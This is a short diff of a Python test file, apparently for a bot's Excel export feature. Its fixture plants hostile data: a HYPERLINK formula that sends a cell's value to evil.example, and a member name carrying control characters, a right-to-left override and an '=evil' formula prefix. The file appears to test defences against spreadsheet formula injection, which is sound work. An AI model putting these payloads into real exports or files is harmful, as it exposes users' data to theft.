@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 from handlers.export import cell, export_unit
 from reminders.calendar import month_of
 from storage.db import Database
-from storage.models import Level
+from storage.models import Level, pk
 from tests.conftest import Chat, World
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C3,"Xem")'
@@ -31,13 +31,13 @@ async def hostile_world(chat: Chat, db: Database, world: World) -> None:
         assert commune is not None
         for n, name in enumerate(HOSTILE_UNITS):
             village = await store.units.add(f"H{n}", name, Level.village, commune)
-            await store.targets.set(village.id or 0, "cks", "2026-11", 10)
+            await store.targets.set(pk(village), "cks", "2026-11", 10)
         village = await store.units.by_code("H0")
         assert village is not None
         # Straight into storage, past the door's cleaning (no NUL: PostgreSQL refuses it).
         member = await store.members.add("Hoa\x07\u202e=evil\x1b", village)
         await store.entries.add_report(
-            member_id=member.id or 0, unit_id=village.id or 0, counts={"cks": 4},
+            member_id=pk(member), unit_id=pk(village), counts={"cks": 4},
             day=date(2026, 11, 20), source="test",
         )  # fmt: skip
         await store.commit()
